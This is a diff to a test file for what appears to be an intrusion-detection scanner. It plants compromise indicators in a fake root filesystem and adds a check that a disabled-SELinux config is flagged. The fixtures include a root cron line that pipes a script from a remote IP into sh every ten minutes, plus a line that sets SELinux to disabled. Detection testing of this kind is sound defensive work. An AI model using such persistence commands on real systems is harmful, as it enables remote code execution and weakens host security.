@@ -46,7 +46,8 @@ function compromise(root: FakeRoot): void {
       mode: 0o755,
       mtime: HOURS_AGO(5),
     })
-    .write('/var/spool/cron/root', '*/10 * * * * curl -fsSL http://185.222.58.10/ldr.sh | sh\n', { mode: 0o600, mtime: HOURS_AGO(5) });
+    .write('/var/spool/cron/root', '*/10 * * * * curl -fsSL http://185.222.58.10/ldr.sh | sh\n', { mode: 0o600, mtime: HOURS_AGO(5) })
+    .write('/etc/selinux/config', 'SELINUX=disabled\nSELINUXTYPE=targeted\n', { mtime: HOURS_AGO(5) });
 }
 
 describe('rpm-family trees (CentOS / RHEL / Rocky), offline', { skip: !haveRpmTools() && 'rpm/rpmbuild not installed' }, () => {
@@ -104,9 +105,13 @@ describe('rpm-family trees (CentOS / RHEL / Rocky), offline', { skip: !haveRpmTo
     const login = result.findings.find((f) => f.rule === 'logs/ssh-login-after-bruteforce');
     assert.equal(login?.severity, 'critical');
     assert.equal(login?.ip, ATTACKER);
+    const se = result.findings.find((f) => f.rule === 'hooks/selinux-disabled');
+    assert.equal(se?.severity, 'high');
+    assert.match(se?.evidence.join('\n') ?? '', /config:1: SELINUX=disabled/);
     // Nothing else that is packaged turned loud: only the planted files are named.
     const paths = new Set(result.findings.filter((f) => atLeast(f.severity, 'high') && f.path).map((f) => f.path));
-    for (const p of paths) assert.ok(['/usr/bin/ps', '/var/spool/cron/root', '/var/log/secure'].includes(p ?? ''), `unexpected ${p}`);
+    for (const p of paths)
+      assert.ok(['/usr/bin/ps', '/var/spool/cron/root', '/var/log/secure', '/etc/selinux/config'].includes(p ?? ''), `unexpected ${p}`);
   });
 
   it('a CentOS 7 / RHEL 8 Berkeley DB Packages gives the same verdicts', {
